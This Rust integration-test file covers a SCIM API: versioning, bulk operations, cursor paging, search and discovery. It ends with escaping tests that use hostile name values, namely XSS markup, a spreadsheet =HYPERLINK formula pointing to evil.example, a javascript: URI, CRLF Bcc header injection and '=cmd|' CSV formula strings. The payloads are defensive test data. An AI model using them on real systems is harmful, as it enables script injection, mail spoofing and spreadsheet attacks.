//! SCIM beyond what Okta sends: versions, bulk requests, pages by cursor, searches over everything, discovery. Each
//! over HTTP through the gateway; tests of a row of the bad-input catalogue bear its number.

use std::time::Duration;

use anyhow::Context;
use serde_json::{Value, json};
use shared::{scim::bulk::MAX_OPERATIONS, tenant::Role};
use tests::{
    canary::filled,
    raw::Reply,
    routes::{encoded, is_scim},
    site::{Site, Tenant},
};
use url::Url;

type Outcome = anyhow::Result<()>;

async fn acme() -> anyhow::Result<(Site, Tenant)> {
    let site = Site::start().await?;
    let acme = site.customer("acme").await?;
    Ok((site, acme))
}

async fn created(acme: &Tenant, kind: &str, body: &Value) -> anyhow::Result<Value> {
    Ok(acme.call("POST", &format!("/scim/v2/{kind}"), body).await?.expect(201)?.json())
}

fn id(resource: &Value) -> anyhow::Result<&str> {
    resource["id"].as_str().context("an id")
}

async fn bulk(acme: &Tenant, body: &Value) -> anyhow::Result<Reply> {
    acme.call("POST", "/scim/v2/Bulk", body).await
}

fn statuses(reply: &Reply) -> Vec<String> {
    let operations = reply.json()["Operations"].as_array().cloned().unwrap_or_default();
    operations.iter().filter_map(|operation| operation["status"].as_str().map(str::to_owned)).collect()
}

fn post(bulk_id: &str, more: &Value) -> Value {
    let mut data = json!({ "userName": format!("{bulk_id}@acme.example") });
    for (name, value) in more.as_object().into_iter().flatten() {
        data[name] = value.clone();
    }
    json!({ "method": "POST", "path": "/Users", "bulkId": bulk_id, "data": data })
}

#[tokio::test(flavor = "multi_thread")]
async fn c13_a_stale_version_is_412_and_the_current_one_is_not() -> Outcome {
    let (_site, acme) = acme().await?;
    for (kind, body) in
        [("Users", json!({ "userName": "a@acme.example" })), ("Groups", json!({ "displayName": "A" }))]
    {
        let resource = created(&acme, kind, &body).await?;
        let path = format!("/scim/v2/{kind}/{}", id(&resource)?);
        let read = acme.get(&path).await?.expect(200)?;
        let tag = read.header("etag").context("an entity tag")?.to_owned();
        assert_eq!(read.json()["meta"]["version"], tag.as_str());
        let send = |method: &'static str, tag: &str, external: &str| {
            let mut body = body.clone();
            body["externalId"] = json!(external);
            if method == "PATCH" {
                body = json!({ "Operations": [{ "op": "add", "path": "externalId", "value": external }] });
            }
            let request = acme.request(method, &path).with("if-match", tag).json(&body);
            let acme = &acme;
            async move { acme.send(&request).await }
        };
        for method in ["PUT", "PATCH", "DELETE"] {
            let stale = send(method, "W/\"99\"", "stale").await?.expect(412)?;
            assert_eq!(stale.json()["status"], "412");
        }
        let before = acme.get(&path).await?.json();
        assert_eq!(before, read.json(), "refused, and yet changed");
        send("PUT", &tag, "put").await?.expect(200)?;
        send("PUT", &tag, "again").await?.expect(412)?;
        let now = acme.get(&path).await?.header("etag").context("an entity tag")?.to_owned();
        send("PATCH", &now, "patched").await?;
        assert_eq!(acme.get(&path).await?.json()["externalId"], "patched");
        send("PATCH", &now, "again").await?.expect(412)?;
        send("DELETE", "*", "").await?.expect(204)?;
        send("DELETE", "*", "").await?.expect(404)?;
    }
    // A role-group has no version: no condition on one can hold.
    let admin = acme.role_group(Role::Admin);
    let request = acme.request("DELETE", &format!("/scim/v2/Groups/{admin}")).with("if-match", "W/\"1\"");
    acme.send(&request).await?.expect(412)?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn c26_a_bulk_request_does_what_its_requests_would() -> Outcome {
    let (_site, acme) = acme().await?;
    let group = json!({ "displayName": "G", "members": [{ "value": "bulkId:a" }, { "value": "bulkId:b" }] });
    let body = json!({
        "schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkRequest"],
        "Operations": [
            { "method": "POST", "path": "/Groups", "bulkId": "g", "data": group },
            post("a", &json!({ "active": "False" })),
            post("b", &json!({})),
            { "method": "PATCH", "path": "/Users/bulkId:b", "data": {
                "Operations": [{ "op": "replace", "value": { "title": "Head" } }],
            } },
            post("A", &json!({})),
        ],
    });
    let reply = bulk(&acme, &body).await?.expect(200)?;
    assert_eq!(statuses(&reply), ["201", "201", "201", "200", "409"]);
    let answer = reply.json();
    assert_eq!(answer["schemas"], json!(["urn:ietf:params:scim:api:messages:2.0:BulkResponse"]));
    assert_eq!(answer["Operations"][4]["response"]["scimType"], "uniqueness");
    let location =
        |index: usize| answer["Operations"][index]["location"].as_str().unwrap_or_default().to_owned();
    let path = |index: usize| location(index).split("/scim/v2").nth(1).map(|path| format!("/scim/v2{path}"));
    let group = acme.get(&path(0).context("a path")?).await?.expect(200)?.json();
    assert_eq!(group["members"].as_array().map(Vec::len), Some(2), "the references forward");
    let person = acme.get(&path(3).context("a path")?).await?.expect(200)?;
    assert_eq!(person.json()["title"], "Head");
    assert_eq!(answer["Operations"][3]["version"], person.header("etag").unwrap_or_default());
    // The version that an operation names is that of its resource, or nothing is done.
    let user = path(3).context("a path")?.replace("/scim/v2", "");
    let remove =
        |version: &str| json!({ "Operations": [{ "method": "DELETE", "path": user, "version": version }] });
    assert_eq!(statuses(&bulk(&acme, &remove("W/\"9\"")).await?), ["412"]);
    assert_eq!(statuses(&bulk(&acme, &remove("W/\"2\"")).await?), ["204"]);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn c26_bulk_limits_circles_and_errors() -> Outcome {
    let (site, acme) = acme().await?;
    let config = acme.get("/scim/v2/ServiceProviderConfig").await?.expect(200)?.json();
    let limits = &config["bulk"];
    assert_eq!(limits["maxOperations"], MAX_OPERATIONS);
    let before = site.state().await?;
    let many = vec![json!({ "method": "DELETE", "path": "/Users/nobody" }); MAX_OPERATIONS + 1];
    bulk(&acme, &json!({ "Operations": many })).await?.expect(413)?;
    let most = usize::try_from(limits["maxPayloadSize"].as_u64().context("a size")?)?;
    for (size, status) in [(most, 400), (most + 1, 413)] {
        let request = acme.request("POST", "/scim/v2/Bulk").body("application/scim+json", "[".repeat(size));
        acme.send(&request).await?.expect(status)?;
    }
    for body in [
        json!({ "Operations": [post("a", &json!({})), post("a", &json!({}))] }),
        json!({ "Operations": [post("a", &json!({ "title": "bulkId:nobody" }))] }),
        json!({ "Operations": [post("a", &json!({})), { "method": "GET", "path": "/Users" }] }),
    ] {
        bulk(&acme, &body).await?.expect(400)?;
    }
    let manager = |of: &str| json!({ "title": format!("bulkId:{of}") });
    let circle = json!({ "Operations": [post("a", &manager("b")), post("b", &manager("a")), post("c", &manager("c"))] });
    assert_eq!(statuses(&bulk(&acme, &circle).await?.expect(200)?), ["409", "409", "409"]);
    assert_eq!(site.state().await?, before, "refused, and yet changed");
    // After so many errors the rest is not done, and not in the answer.
    let failing = json!({ "method": "DELETE", "path": "/Users/nobody" });
    let operations = [failing.clone(), post("x", &json!({})), failing, post("y", &json!({}))];
    for (allowed, done) in [(1, &["404"][..]), (2, &["404", "201", "404"])] {
        let body = json!({ "failOnErrors": allowed, "Operations": operations });
        assert_eq!(statuses(&bulk(&acme, &body).await?.expect(200)?), done, "{allowed}");
    }
    let y = encoded("userName eq \"y@acme.example\"");
    assert_eq!(acme.get(&format!("/scim/v2/Users?filter={y}")).await?.json()["totalResults"], 0);
    Ok(())
}

/// Every page of a list by its cursors; the ids, in the order in which they came.
async fn by_cursor(acme: &Tenant, list: &str, count: usize) -> anyhow::Result<Vec<String>> {
    let (mut ids, mut cursor) = (Vec::new(), String::new());
    for _ in 0..50 {
        let page = acme.get(&format!("{list}count={count}&cursor={cursor}")).await?.expect(200)?.json();
        assert_eq!(page.get("startIndex"), None, "a page by cursor has no index");
        let rows = page["Resources"].as_array().context("Resources")?;
        ids.extend(rows.iter().filter_map(|row| row["id"].as_str()).map(str::to_owned));
        match page["nextCursor"].as_str() {
            Some(next) => next.clone_into(&mut cursor),
            None => return Ok(ids),
        }
    }
    anyhow::bail!("the pages do not end")
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_by_cursor_are_the_list_and_a_cursor_is_good_for_nothing_else() -> Outcome {
    let (site, acme) = acme().await?;
    let people: Vec<_> =
        (0..25).map(|n| post(&format!("p{n:02}"), &json!({ "title": format!("{}", n % 3) }))).collect();
    bulk(&acme, &json!({ "Operations": people })).await?.expect(200)?;
    let groups: Vec<_> = (0..3).map(|n| json!({ "method": "POST", "path": "/Groups", "bulkId": n.to_string(), "data": { "displayName": format!("G{n}") } })).collect();
    bulk(&acme, &json!({ "Operations": groups })).await?.expect(200)?;
    let title = encoded("title eq \"1\"");
    let lists = [
        "Users?".to_owned(),
        "Groups?".to_owned(),
        format!("Users?filter={title}&"),
        "Users?sortBy=title&".to_owned(),
    ];
    for list in &lists {
        let list = format!("/scim/v2/{list}");
        let whole = acme.get(&format!("{list}startIndex=1&count=200")).await?.expect(200)?.json();
        let rows = whole["Resources"].as_array().context("Resources")?.iter();
        let wanted: Vec<_> = rows.filter_map(|row| row["id"].as_str()).map(str::to_owned).collect();
        assert!(wanted.len() > 7, "{list}");
        for count in [1, 4, 200] {
            assert_eq!(by_cursor(&acme, &list, count).await?, wanted, "{list}{count}");
        }
    }
    // Who was deleted in between is not shown; nobody is left out for it.
    let first = acme.get("/scim/v2/Users?count=5&cursor=").await?.expect(200)?.json();
    let cursor = first["nextCursor"].as_str().context("a cursor")?;
    acme.send(&acme.request("DELETE", &format!("/scim/v2/Users/{}", id(&first["Resources"][1])?)))
        .await?
        .expect(204)?;
    let second = acme.get(&format!("/scim/v2/Users?count=5&cursor={cursor}")).await?.expect(200)?.json();
    let sixth = acme.get("/scim/v2/Users?startIndex=5&count=1").await?.expect(200)?.json();
    assert_eq!(second["Resources"][0]["id"], sixth["Resources"][0]["id"]);

    let other = site.customer("other").await?;
    for (who, list) in [
        (&other, "Users?".to_owned()),
        (&acme, "Groups?".to_owned()),
        (&acme, format!("Users?filter={title}&")),
        (&acme, "Users?sortBy=title&".to_owned()),
    ] {
        let refused = who.get(&format!("/scim/v2/{list}cursor={cursor}")).await?.expect(400)?.json();
        assert_eq!(refused["scimType"], "invalidCursor", "{list}");
    }
    let none = acme.get(&format!("/scim/v2/Users?count=0&cursor={cursor}")).await?.expect(400)?.json();
    assert_eq!(none["scimType"], "invalidCount");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_search_over_everything_is_users_then_groups() -> Outcome {
    let (_site, acme) = acme().await?;
    let people: Vec<_> = (0..4).map(|n| post(&format!("p{n}"), &json!({ "displayName": "Admin" }))).collect();
    bulk(&acme, &json!({ "Operations": people })).await?.expect(200)?;
    let search = |body: Value| {
        let acme = &acme;
        async move { acme.call("POST", "/scim/v2/.search", &body).await }
    };
    let all = search(json!({ "count": 200 })).await?.expect(200)?.json();
    assert_eq!(
        (&all["totalResults"], &all["itemsPerPage"]),
        (&json!(11), &json!(11)),
        "5 users and 6 role-groups"
    );
    let kinds = |page: &Value| {
        let rows = page["Resources"].as_array().cloned().unwrap_or_default();
        rows.iter()
            .map(|row| row["meta"]["resourceType"].as_str().unwrap_or_default().to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(kinds(&all)[4..6], ["User", "Group"]);
    let across = search(json!({ "startIndex": 5, "count": 3 })).await?.expect(200)?.json();
    assert_eq!(
        across["Resources"].as_array(),
        all["Resources"].as_array().map(|rows| rows[4..7].to_vec()).as_ref()
    );
    let beyond = search(json!({ "startIndex": 8, "count": 3 })).await?.expect(200)?.json();
    assert_eq!(
        beyond["Resources"].as_array(),
        all["Resources"].as_array().map(|rows| rows[7..10].to_vec()).as_ref()
    );
    let both = search(json!({ "filter": "displayName eq \"Admin\"" })).await?.expect(200)?.json();
    assert_eq!(kinds(&both), ["User", "User", "User", "User", "Group"]);
    let users = search(json!({ "filter": "userName sw \"p\"" })).await?.expect(200)?.json();
    assert_eq!(kinds(&users), ["User"; 4]);
    let groups = search(json!({ "filter": "meta.resourceType eq \"Group\"" })).await?.expect(200)?.json();
    assert_eq!(kinds(&groups), ["Group"; 6]);
    let (mut seen, mut cursor) = (Vec::new(), json!(""));
    while cursor.is_string() {
        let page = search(json!({ "count": 2, "cursor": cursor })).await?.expect(200)?.json();
        assert_eq!(page["totalResults"], 11);
        seen.extend(page["Resources"].as_array().cloned().unwrap_or_default());
        cursor = page["nextCursor"].clone();
    }
    assert_eq!(Some(&seen), all["Resources"].as_array());
    let none = search(json!({ "filter": "nope eq \"x\"" })).await?.expect(400)?.json();
    assert_eq!(none["scimType"], "invalidFilter");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn discovery_advertises_what_is_kept_and_me_is_nobody() -> Outcome {
    let (_site, acme) = acme().await?;
    let config = acme.get("/scim/v2/ServiceProviderConfig").await?.expect(200)?.json();
    for feature in ["patch", "bulk", "filter", "sort", "etag"] {
        assert_eq!(config[feature]["supported"], true, "{feature}");
    }
    assert_eq!(config["changePassword"]["supported"], false);
    assert_eq!(
        (&config["pagination"]["index"], &config["pagination"]["cursor"]),
        (&json!(true), &json!(true))
    );
    assert_eq!(config["pagination"]["cursorTimeout"], 3600);
    // What the schema says a client can write is kept, and nothing else is.
    let schemas = acme.get("/scim/v2/Schemas").await?.expect(200)?.json();
    let user = &schemas["Resources"][0]["attributes"];
    let mut body = json!({ "userName": "whole@acme.example", "nope": "x" });
    for attribute in user.as_array().context("attributes")? {
        let name = attribute["name"].as_str().context("a name")?;
        let writable = attribute["mutability"] == "readWrite" && name != "userName" && name != "active";
        if writable && attribute["type"] != "complex" {
            body[name] = json!(format!("{name} of a person"));
        }
    }
    let shown = created(&acme, "Users", &body).await?;
    for (name, value) in body.as_object().context("a body")? {
        assert_eq!(shown.get(name), Some(value).filter(|_| name != "nope"), "{name}");
    }
    for method in ["GET", "POST", "PUT", "PATCH", "DELETE"] {
        let me = acme.send(&acme.request(method, "/scim/v2/Me")).await?.expect(501)?;
        assert_eq!(me.json()["status"], "501");
    }
    Ok(())
}

/// What a name may try where it is shown: to be markup, a formula, an address, another line. Each has the mark, which no
/// id has.
const HOSTILE: [&str; 3] = [
    "\"'><img src=x onerror=alert(1)><script>alert(1)</script>&mallory;@acme.example",
    "=HYPERLINK(\"http://evil.example/?mallory\",\"x\")&secret=mallory@acme.example",
    "javascript:alert('mallory')//\u{202e}\u{2028}Bcc: mallory@acme.example",
];
const MARK: &str = "mallory";

async fn html(acme: &Tenant, path: &str) -> anyhow::Result<Reply> {
    acme.send(&acme.request("GET", path).with("accept", "text/html")).await
}

/// Somebody whose name is on every page of theirs, in mail and in an address, bears each of the names in turn.
#[tokio::test(flavor = "multi_thread")]
async fn c23_a_name_is_text_wherever_it_comes_out() -> Outcome {
    let (site, acme) = acme().await?;
    let path = format!("/scim/v2/Users/{}", acme.admin.id);
    let named = |name: &str| {
        let emails = json!([{ "value": "sponsor@acme.example", "type": "work", "primary": true }]);
        json!({ "userName": name, "displayName": name, "title": name, "emails": emails })
    };
    for name in ["mallory\r\nBcc: all@evil.example", "mallory\u{0}", "mallory\u{85}x", &"mallory".repeat(200)]
    {
        acme.call("PUT", &path, &named(name)).await?.expect(400)?;
    }
    // What else of a request is kept in the log.
    acme.get("/scim/v2/Users/%3Dcmd%28mallory%29").await?.expect(404)?;
    acme.get(&format!("/scim/v2/Users?filter={}", encoded("userName eq \"=mallory\""))).await?.expect(200)?;
    let odd = acme.request("GET", "/scim/v2/Users/nobody").without("x-correlation-id");
    acme.send(&odd.with("x-correlation-id", "=cmd|mallory")).await?.expect(404)?;
    for name in HOSTILE {
        let shown = acme.call("PUT", &path, &named(name)).await?.expect(200)?.json();
        assert_eq!((&shown["userName"], &shown["title"]), (&json!(name), &json!(name)), "verbatim");
        in_mail(&site, &acme, name).await?;
        on_pages(&site, &acme, name).await?;
        in_an_address(&site, &acme, name).await?;
    }
    in_files(&acme, 10).await
}

/// A mail of our three lines, to the one it is for, with a subject that is ours.
async fn in_mail(site: &Site, acme: &Tenant, name: &str) -> Outcome {
    // The sponsor is named from the start.
    for action in ["withdraw", "name"] {
        let change = json!({ "user": name, "action": action });
        acme.call("POST", "/security/break-glass", &change).await?.expect(200)?;
    }
    let outbox = site.stack.cloud.ses().outbox();
    let mail = outbox.last().context("a mail")?;
    assert_eq!(mail.subject, "Break-glass changed");
    assert_eq!(mail.to, ["sponsor@acme.example"]);
    assert!(mail.html.is_none() && mail.text.starts_with(&format!("{name} is named for")), "{}", mail.text);
    assert!(mail.text.lines().count() == 3 && !mail.text.contains('\r'), "{:?}", mail.text);
    Ok(())
}

/// Every page that there is: the name is on it escaped, or not at all.
async fn on_pages(site: &Site, acme: &Tenant, name: &str) -> Outcome {
    let escaped = [('&', "&amp;"), ('<', "&lt;"), ('>', "&gt;"), ('"', "&quot;")]
        .iter()
        .fold(name.to_owned(), |text, (special, entity)| text.replace(*special, entity));
    let mut on = 0;
    for place in site.places()? {
        if !place.methods.contains_key("GET") || is_scim(&place.path) {
            continue;
        }
        let path = filled(acme, &place);
        let page = html(acme, &path).await?;
        let rest = page.body.replace(&escaped, "");
        assert!(page.status < 500 && !rest.contains(MARK), "{name} on {path}: {rest}");
        on += usize::from(rest.len() < page.body.len());
    }
    assert!(on >= 8, "on {on} pages only");
    for (path, form) in [
        ("/users", format!("<td>{escaped}</td>")),
        ("/sessions", format!("<td>{escaped}<span")),
        ("/security/break-glass", format!("value=\"{escaped}\"")),
    ] {
        let page = html(acme, path).await?.expect(200)?.body;
        assert!(
            page.contains(&form) && !page.contains("href=\"javascript:"),
            "{path} without {form}: {page}"
        );
    }
    Ok(())
}

/// The address that an authenticator app reads: a name adds nothing to what it says.
async fn in_an_address(site: &Site, acme: &Tenant, name: &str) -> Outcome {
    let asked = acme.anonymous("POST", "/sign-in").json(&json!({ "email": name }));
    acme.send(&asked).await?.expect(200)?;
    let outbox = site.stack.cloud.ses().outbox();
    let link = outbox.last().and_then(|mail| mail.text.split("token=").nth(1)).context("a link")?;
    let token = link.split_whitespace().next().context("a token")?;
    let enrol = acme.anonymous("POST", "/sign-in/enrol").json(&json!({ "token": token }));
    let shown = acme.send(&enrol).await?.expect(200)?.json();
    let address = Url::parse(shown["uri"].as_str().context("an address")?)?;
    let says: Vec<_> = address.query_pairs().map(|(name, _)| name.into_owned()).collect();
    assert_eq!(says, ["secret", "issuer", "algorithm", "digits", "period"]);
    assert!(address.query_pairs().all(|(_, value)| !value.contains(MARK)), "{name}");
    Ok(())
}

/// The file for a spreadsheet, once it has `rows`: it holds no name, and no cell is a formula.
async fn in_files(acme: &Tenant, rows: usize) -> Outcome {
    for _ in 0..200 {
        let file = acme.get("/security/scim/log.csv").await?.expect(200)?.body;
        assert!(!file.contains(MARK), "{file}");
        let mut cells = file.lines().flat_map(|line| line.trim_matches('"').split("\",\""));
        assert!(cells.all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{file}");
        if file.lines().count() > rows {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    anyhow::bail!("no {rows} rows in the file")
}
